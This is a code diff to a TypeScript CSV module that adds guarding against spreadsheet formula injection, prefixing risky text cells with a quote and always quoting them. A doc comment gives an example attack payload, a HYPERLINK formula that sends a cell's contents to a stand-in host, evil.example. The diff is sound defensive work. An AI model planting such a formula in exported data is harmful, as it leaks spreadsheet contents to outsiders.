@@ -80,9 +80,33 @@ export function parseCsv(text: string): CsvParse {
   return { ok: true, records };
 }
 
-/** One field, quoted only when it must be. */
+/**
+ * What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): a text cell
+ * `=HYPERLINK("http://evil.example/?"&A1,"Click")` would run when the file is opened.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * A text cell for a file people open in Excel or Sheets: one that a spreadsheet would read as a
+ * formula gets a leading `'` (shown as text, not run) and is always quoted, as OWASP advises.
+ * Only for text values: a number such as `-5` is written as it is.
+ */
+export function spreadsheetText(value: string): string {
+  return FORMULA_START.test(value) ? `'${value}` : value;
+}
+
+/** Undoes {@link spreadsheetText}: `'=x` is read as `=x`; any other `'` is the cell's own. */
+export function fromSpreadsheetText(value: string): string {
+  return isGuarded(value) ? value.slice(1) : value;
+}
+
+function isGuarded(value: string): boolean {
+  return value.startsWith("'") && FORMULA_START.test(value.slice(1));
+}
+
+/** One field, quoted only when it must be (or when {@link spreadsheetText} guarded it). */
 export function csvField(value: string): string {
-  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
+  return isGuarded(value) || /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
 }
 
 /** One record with its CRLF terminator, as RFC 4180 writes it. */
